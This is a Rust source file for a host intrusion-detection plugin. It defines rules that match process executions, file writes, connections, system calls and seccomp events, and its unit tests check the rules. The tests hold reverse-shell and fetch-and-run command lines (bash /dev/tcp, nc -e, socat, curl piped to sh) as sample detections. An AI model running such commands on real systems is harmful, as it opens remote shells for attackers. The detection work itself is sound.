//! Rules: conditions over one event, and what to say when they hold.

use eunomia_plugin::prelude::*;
use eunomia_plugin::seccomp::Action;
use serde::{Deserialize, Deserializer};
use wildmatch::WildMatch;

use crate::subject::{Event, Subject};

/// A pattern with `*` and `?`, for a whole string.
#[derive(Debug, Clone)]
struct Glob(WildMatch);

impl<'de> Deserialize<'de> for Glob {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        String::deserialize(deserializer).map(|text| Glob(WildMatch::new(&text)))
    }
}

#[derive(Deserialize, Debug, Clone, Copy)]
#[serde(rename_all = "lowercase")]
enum Level {
    Info,
    Low,
    Medium,
    High,
    Critical,
}

/// What a rule is about.
#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq, Default)]
#[serde(rename_all = "kebab-case")]
pub enum On {
    /// A program is executed.
    #[default]
    Exec,
    /// A file is opened for writing, or its name, owner, permissions or size are changed.
    FileWrite,
    /// A TCP connection is asked for.
    Connect,
    /// A system call.
    Syscall,
    /// A seccomp filter stops a call.
    Seccomp,
}

/// A rule. Every condition that is given must hold; a list holds when one of its patterns fits.
#[derive(Deserialize, Debug, Clone)]
#[serde(deny_unknown_fields, try_from = "RuleTable")]
pub struct Rule {
    pub name: String,
    table: RuleTable,
}

#[derive(Deserialize, Debug, Clone)]
#[serde(deny_unknown_fields)]
struct RuleTable {
    name: String,
    severity: Level,
    #[serde(default)]
    on: On,
    /// What the alert says, before who did it.
    #[serde(default)]
    message: String,
    /// The program's path.
    #[serde(default)]
    exe: Vec<Glob>,
    /// The program's arguments, joined by spaces.
    #[serde(default)]
    args: Vec<Glob>,
    /// The thread's name.
    #[serde(default)]
    comm: Vec<Glob>,
    /// The real user id.
    #[serde(default)]
    uid: Vec<u32>,
    /// The parent's name.
    #[serde(default)]
    parent: Vec<Glob>,
    /// Programs and parents that are left out.
    #[serde(default)]
    except_exe: Vec<Glob>,
    #[serde(default)]
    except_parent: Vec<Glob>,

    // Of exec.
    /// The current directory.
    #[serde(default)]
    cwd: Vec<Glob>,
    /// The program is, or is not, a file in memory that has no name.
    memfd: Option<bool>,
    /// The program's file had, or had not, been deleted.
    deleted: Option<bool>,
    /// The program is, or is not, from a container's writable layer.
    upper_layer: Option<bool>,

    // Of file-write.
    /// The file, or what it is renamed or linked to.
    #[serde(default)]
    path: Vec<Glob>,
    #[serde(default)]
    except_path: Vec<Glob>,
    /// It gets, or does not get, the bits that lend its owner's or group's rights to whoever runs it.
    setid: Option<bool>,

    // Of connect.
    /// The other side's address.
    #[serde(default)]
    address: Vec<Glob>,
    #[serde(default)]
    except_address: Vec<Glob>,
    /// The other side's port.
    #[serde(default)]
    port: Vec<u16>,

    // Of syscall.
    /// The call's name.
    #[serde(default)]
    syscall: Vec<String>,

    // Of seccomp.
    /// What the filter did.
    #[serde(default)]
    action: Vec<FilterAction>,
}

/// As the interface's enum.
#[derive(Deserialize, Debug, Clone, Copy, PartialEq)]
#[serde(rename_all = "kebab-case")]
enum FilterAction {
    Errno,
    Trap,
    KillProcess,
    KillThread,
    Log,
    Trace,
    UserNotif,
}

impl FilterAction {
    fn is(self, action: Action) -> bool {
        let same = match action {
            Action::Errno => FilterAction::Errno,
            Action::Trap => FilterAction::Trap,
            Action::KillProcess => FilterAction::KillProcess,
            Action::KillThread => FilterAction::KillThread,
            Action::Log => FilterAction::Log,
            Action::Trace => FilterAction::Trace,
            Action::UserNotif => FilterAction::UserNotif,
        };
        self == same
    }
}

impl TryFrom<RuleTable> for Rule {
    type Error = String;

    fn try_from(table: RuleTable) -> Result<Self, String> {
        let name = &table.name;
        let given = |conditions: &[(&'static str, bool)]| {
            conditions.iter().find(|(_, given)| *given).map(|(condition, _)| *condition)
        };
        let of_all = [
            ("exe", !table.exe.is_empty()),
            ("args", !table.args.is_empty()),
            ("comm", !table.comm.is_empty()),
            ("uid", !table.uid.is_empty()),
            ("parent", !table.parent.is_empty()),
        ];
        let families = [
            (
                On::Exec,
                given(&[
                    ("cwd", !table.cwd.is_empty()),
                    ("memfd", table.memfd.is_some()),
                    ("deleted", table.deleted.is_some()),
                    ("upper_layer", table.upper_layer.is_some()),
                ]),
            ),
            (
                On::FileWrite,
                given(&[
                    ("path", !table.path.is_empty()),
                    ("except_path", !table.except_path.is_empty()),
                    ("setid", table.setid.is_some()),
                ]),
            ),
            (
                On::Connect,
                given(&[
                    ("address", !table.address.is_empty()),
                    ("except_address", !table.except_address.is_empty()),
                    ("port", !table.port.is_empty()),
                ]),
            ),
            (On::Syscall, given(&[("syscall", !table.syscall.is_empty())])),
            (On::Seccomp, given(&[("action", !table.action.is_empty())])),
        ];
        if let Some((_, condition)) = families.iter().find(|(on, condition)| *on != table.on && condition.is_some()) {
            let condition = condition.unwrap_or_default();
            return Err(format!(
                "the rule {name} has the condition {condition}, which its events do not have; see `on`"
            ));
        }
        let own = families.iter().any(|(_, condition)| condition.is_some());
        if !own && given(&of_all).is_none() {
            return Err(format!("the rule {name} has no condition, so it would fit everything"));
        }
        if table.on == On::Syscall && table.syscall.is_empty() {
            return Err(format!("the rule {name} is about system calls and names none: add syscall = [\"...\"]"));
        }
        Ok(Rule { name: name.clone(), table })
    }
}

/// The rules of the plugin itself.
pub fn default_rules() -> Vec<Rule> {
    serde_json::from_str(include_str!("default_rules.json")).expect("a test reads it")
}

fn any(globs: &[Glob], text: &str) -> bool {
    globs.iter().any(|glob| glob.0.matches(text))
}

fn holds(globs: &[Glob], text: &str) -> bool {
    globs.is_empty() || any(globs, text)
}

fn is(wanted: Option<bool>, value: bool) -> bool {
    wanted.is_none_or(|wanted| wanted == value)
}

impl Rule {
    /// The system calls that it is about.
    pub fn syscalls(&self) -> &[String] {
        &self.table.syscall
    }

    /// Whether the rule fits an event. What the event itself tells is looked at first: who did it may have to be asked.
    pub fn fits(&self, subject: &Subject<'_>) -> bool {
        self.table.on == subject.event.on() && self.fits_event(&subject.event) && self.fits_task(subject)
    }

    fn fits_event(&self, event: &Event<'_>) -> bool {
        let table = &self.table;
        match event {
            Event::Exec(exec) => {
                is(table.memfd, exec.exe_memfd)
                    && is(table.deleted, exec.exe_deleted)
                    && is(table.upper_layer, exec.exe_upper_layer == Some(true))
                    && holds(&table.cwd, &exec.cwd)
            }
            Event::Open(open) => self.fits_file(&open.path, None, false),
            Event::Change(change) => {
                let other = change.other_path.as_deref();
                self.fits_file(&change.path, other, crate::subject::sets_id(change))
            }
            Event::Connect(connect) => {
                let address = &connect.endpoints.destination_address;
                holds(&table.address, address)
                    && !any(&table.except_address, address)
                    && (table.port.is_empty() || table.port.contains(&connect.endpoints.destination_port))
            }
            Event::Syscall(_, name) => table.syscall.iter().any(|call| call == name),
            Event::Seccomp(event) => {
                table.action.is_empty() || table.action.iter().any(|action| action.is(event.action))
            }
        }
    }

    fn fits_file(&self, path: &str, other: Option<&str>, setid: bool) -> bool {
        let table = &self.table;
        let fits = |path: &str| holds(&table.path, path) && !any(&table.except_path, path);
        is(table.setid, setid) && (fits(path) || other.is_some_and(fits))
    }

    fn fits_task(&self, subject: &Subject<'_>) -> bool {
        let table = &self.table;
        (table.uid.is_empty() || table.uid.contains(&subject.task.uid))
            && holds(&table.comm, &subject.task.comm)
            && holds(&table.exe, subject.exe())
            && !any(&table.except_exe, subject.exe())
            && holds(&table.parent, subject.parent())
            && !any(&table.except_parent, subject.parent())
            && (table.args.is_empty() || any(&table.args, &subject.args()))
    }

    /// What to say of the event.
    pub fn alert(&self, subject: &Subject<'_>) -> Alert {
        let severity = match self.table.severity {
            Level::Info => Severity::Info,
            Level::Low => Severity::Low,
            Level::Medium => Severity::Medium,
            Level::High => Severity::High,
            Level::Critical => Severity::Critical,
        };
        let message = if self.table.message.is_empty() { "rule fits" } else { &self.table.message };
        subject.alert(severity, &self.name, message)
    }
}

#[cfg(test)]
pub mod tests {
    use super::*;

    /// The execution of a program with arguments by a parent.
    pub fn exec(exe: &str, args: &str, parent: &str) -> Exec {
        let task = Task {
            pid: 2,
            tid: 2,
            ppid: 1,
            uid: 1000,
            gid: 1000,
            comm: exe.rsplit('/').next().unwrap_or_default().into(),
            cgroup: 1,
            pid_ns: 1,
            mnt_ns: 1,
            user_ns: 1,
            start_time: 1,
        };
        Exec {
            time: 1_000,
            task,
            filename: exe.into(),
            exe: exe.into(),
            exe_memfd: false,
            exe_deleted: false,
            exe_upper_layer: None,
            args: args.split(' ').map(Into::into).collect(),
            args_truncated: false,
            cwd: "/".into(),
            paths_truncated: false,
            tty: None,
            login_uid: None,
            capabilities: 0,
            parent_comm: parent.into(),
            lossy: false,
        }
    }

    fn rule_for(event: &Exec) -> Option<String> {
        fitting(Event::Exec(event), |_, _| None)
    }

    fn fitting(event: Event<'_>, lookup: crate::subject::Lookup) -> Option<String> {
        let subject = Subject::new(event, lookup);
        default_rules().iter().find(|rule| rule.fits(&subject)).map(|rule| rule.name.clone())
    }

    fn process(pid: u32, exe: &str) -> Option<eunomia_plugin::processes::Process> {
        let comm = exe.rsplit('/').next().unwrap_or_default().into();
        let (exe, args) = (exe.to_owned(), vec![exe.to_owned()]);
        Some(eunomia_plugin::processes::Process {
            pid,
            ppid: 0,
            uid: 0,
            comm,
            exe,
            args,
            start_time: 1,
            end_time: None,
        })
    }

    fn change(change: Change, path: &str, other_path: Option<&str>) -> FileChange {
        FileChange {
            time: 1,
            task: exec("/usr/bin/x", "x", "bash").task,
            change,
            path: path.into(),
            other_path: other_path.map(Into::into),
            paths_truncated: false,
            new_mode: None,
            new_uid: None,
            new_gid: None,
            new_size: None,
            error: 0,
            lossy: false,
        }
    }

    #[test]
    fn writes_to_what_decides_who_may_do_what_are_caught() {
        for (event, rule) in [
            (change(Change::Rename, "/etc/passwd.new", Some("/etc/passwd")), "account-file-changed"),
            (change(Change::Truncate, "/etc/sudoers.d/me", None), "sudo-rules-changed"),
            (change(Change::Delete, "/etc/crontab", None), "scheduled-job-changed"),
            (change(Change::Link, "/tmp/key", Some("/home/me/.ssh/authorized_keys")), "ssh-access-changed"),
            (change(Change::Symlink, "/etc/systemd/system/x.service", Some("/tmp/x")), "start-up-file-changed"),
            (change(Change::Delete, "/home/me/.bashrc", None), "start-up-file-changed"),
            (change(Change::Truncate, "/etc/ld.so.preload", None), "preload-changed"),
            (FileChange { new_mode: Some(0o4755), ..change(Change::Chmod, "/opt/x", None) }, "setuid-bit-set"),
        ] {
            let found = fitting(Event::Change(&event), |pid, _| process(pid, "/usr/bin/vim"));
            assert_eq!(found.as_deref(), Some(rule), "{event:?}");
        }
        for (event, exe) in [
            (change(Change::Rename, "/etc/passwd+", Some("/etc/passwd")), "/usr/sbin/useradd"),
            (change(Change::Delete, "/etc/cron.d/x", None), "/usr/bin/dpkg"),
            (change(Change::Delete, "/home/me/notes", None), "/usr/bin/rm"),
            (FileChange { new_mode: Some(0o755), ..change(Change::Chmod, "/opt/x", None) }, "/usr/bin/chmod"),
        ] {
            let lookup: crate::subject::Lookup = match exe {
                "/usr/sbin/useradd" => |pid, _| process(pid, "/usr/sbin/useradd"),
                "/usr/bin/dpkg" => |pid, _| process(pid, "/usr/bin/dpkg"),
                _ => |pid, _| process(pid, "/usr/bin/rm"),
            };
            assert_eq!(fitting(Event::Change(&event), lookup), None, "{event:?}");
        }
    }

    #[test]
    fn connections_calls_and_filters_are_caught() {
        let task = exec("/usr/bin/bash", "bash", "sshd").task;
        let connect = |address: &str| TcpConnect {
            time: 1,
            task: task.clone(),
            endpoints: eunomia_plugin::tcp::Endpoints {
                family: eunomia_plugin::tcp::Family::Ipv4,
                source_address: "10.0.0.2".into(),
                source_port: 40_000,
                destination_address: address.into(),
                destination_port: 4444,
                net_ns: 1,
            },
            error: 0,
            duration: 1,
        };
        let (far, near) = (connect("192.0.2.1"), connect("127.0.0.1"));
        let of = |event, exe: crate::subject::Lookup| fitting(event, exe);
        assert_eq!(of(Event::Connect(&far), |pid, _| process(pid, "/bin/bash")).unwrap(), "connection-of-shell");
        assert_eq!(of(Event::Connect(&near), |pid, _| process(pid, "/bin/bash")), None);
        assert_eq!(of(Event::Connect(&far), |pid, _| process(pid, "/usr/bin/curl")), None);

        let call = Syscall {
            time: 1,
            start_time: 1,
            cgroup: 1,
            comm: eunomia_plugin::syscall::FlatComm { low: 0x68736162, high: 0 },
            pid: 1,
            tid: 1,
            ppid: 0,
            uid: 0,
            gid: 0,
            number: 101,
            arg0: 16,
            arg1: 0,
            arg2: 0,
            arg3: 0,
            arg4: 0,
            arg5: 0,
            abi: eunomia_plugin::syscall::Abi::Native,
        };
        let found = |name, exe| of(Event::Syscall(&call, name), exe);
        assert_eq!(found("ptrace", |pid, _| process(pid, "/tmp/inject")).unwrap(), "process-traced");
        assert_eq!(found("ptrace", |pid, _| process(pid, "/usr/bin/gdb")), None);
        assert_eq!(found("bpf", |pid, _| process(pid, "/opt/rootkit")).unwrap(), "bpf-program-loaded");
        assert_eq!(found("bpf", |pid, _| process(pid, "/usr/lib/systemd/systemd")), None);
        assert_eq!(found("finit_module", |pid, _| process(pid, "/opt/rootkit")).unwrap(), "kernel-module-loaded");
        let alert = default_rules()[0].alert(&Subject::new(Event::Syscall(&call, "ptrace"), |_, _| None));
        assert_eq!(alert.task.unwrap().comm, "bash");

        let action = |action| SeccompAction {
            time: 1,
            task: task.clone(),
            number: 59,
            abi: eunomia_plugin::syscall::Abi::Native,
            action,
            errno: None,
            signal: Some(31),
        };
        let (kill, errno) = (action(Action::KillProcess), action(Action::Errno));
        assert_eq!(of(Event::Seccomp(&kill), |_, _| None).unwrap(), "seccomp-kill");
        assert_eq!(of(Event::Seccomp(&errno), |_, _| None), None);
    }

    #[test]
    fn what_matters_is_caught() {
        for (exe, args, parent, rule) in [
            ("/tmp/x", "/tmp/x -c true", "bash", "exec-from-writable-folder"),
            ("/dev/shm/.a", "./.a", "bash", "exec-from-writable-folder"),
            ("/var/tmp/miner", "miner", "cron", "exec-from-writable-folder"),
            ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "python3", "network-shell"),
            ("/usr/bin/nc.traditional", "nc -e /bin/sh 10.0.0.1 4444", "bash", "network-shell"),
            ("/usr/bin/ncat", "ncat 10.0.0.1 4444 --exec /bin/bash", "bash", "network-shell"),
            ("/usr/bin/socat", "socat tcp:10.0.0.1:4444 exec:sh", "bash", "network-shell"),
            ("/usr/bin/python3.11", "python3 -c import socket,pty;pty.spawn('sh')", "bash", "network-shell"),
            ("/usr/bin/dash", "sh -c curl -s http://10.0.0.1/a | sh", "cron", "interpreter-fed-from-network"),
            ("/usr/bin/bash", "bash -c $(wget -qO- http://10.0.0.1/a)", "cron", "interpreter-fed-from-network"),
            ("/usr/bin/dash", "sh -c id", "nginx", "shell-of-web-server"),
            ("/usr/bin/bash", "bash", "php-fpm8.2", "shell-of-web-server"),
        ] {
            assert_eq!(rule_for(&exec(exe, args, parent)).as_deref(), Some(rule), "{args}");
        }
        let in_memory = Exec { exe_memfd: true, ..exec("/memfd:x", "x", "bash") };
        assert_eq!(rule_for(&in_memory).as_deref(), Some("exec-from-memory"));
        let deleted = Exec { exe_deleted: true, ..exec("/opt/x", "x", "bash") };
        assert_eq!(rule_for(&deleted).as_deref(), Some("exec-of-deleted-file"));
    }

    #[test]
    fn what_is_usual_is_left_alone() {
        for (exe, args, parent) in [
            ("/usr/bin/bash", "bash", "sshd"),
            ("/usr/bin/dash", "sh -c make -j2", "make"),
            ("/usr/bin/curl", "curl -O https://example.org/a.tar.gz", "bash"),
            ("/usr/bin/python3.11", "python3 -m http.server", "bash"),
            ("/usr/bin/nc", "nc -z localhost 22", "bash"),
            ("/usr/sbin/nginx", "nginx -g daemon off;", "systemd"),
            ("/home/me/tmp/x", "x", "bash"),
            ("/usr/bin/runc", "runc init", "containerd-shim"),
        ] {
            assert_eq!(rule_for(&exec(exe, args, parent)), None, "{args}");
        }
        let runc =
            Exec { exe_memfd: true, ..exec("/memfd:runc_cloned:/proc/self/exe", "runc init", "containerd-shim") };
        assert_eq!(rule_for(&runc), None, "container engines run themselves from memory");
    }
}
